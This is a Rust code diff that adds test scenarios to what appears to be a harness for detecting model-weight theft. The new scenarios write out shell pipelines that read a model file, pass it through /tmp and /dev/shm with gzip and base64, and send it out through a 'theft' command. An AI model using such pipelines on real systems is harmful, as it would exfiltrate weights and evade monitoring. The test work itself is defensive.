@@ -20,6 +20,10 @@ pub const SCENARIOS: &[Scenario] = &[
     Scenario::new("tar_gzip_file", "tar | gzip > file, send", gzip),
     Scenario::new("split_files", "split into 1 MiB files", split),
     Scenario::new("base64", "base64 | send", base64),
+    Scenario::new("copy_file_range", "copied within the kernel", |stage| {
+        theft(stage, &["copy-file-range", "--place", "/models/llama/.cache"])
+    }),
+    Scenario::new("four_hops", "pipe, file, pipe, /dev/shm, send", hops),
 ];
 
 /// `program` reads the model, as itself: the words that make the actor become it.
@@ -62,4 +66,14 @@ fn split(stage: &mut Stage) -> Outcome {
 fn base64(stage: &mut Stage) -> Outcome {
     let base64 = reader(&format!("base64 -w 0 {MODEL}"));
     script(stage, &format!("{base64} | $A theft stdin TO"))
+}
+
+fn hops(stage: &mut Stage) -> Outcome {
+    let cat = reader(&format!("cat {MODEL}"));
+    script(
+        stage,
+        &format!(
+            "{cat} | dd of=/tmp/1 status=none; cat /tmp/1 | gzip -1 | base64 > /dev/shm/2; $A theft stdin TO < /dev/shm/2"
+        ),
+    )
 }
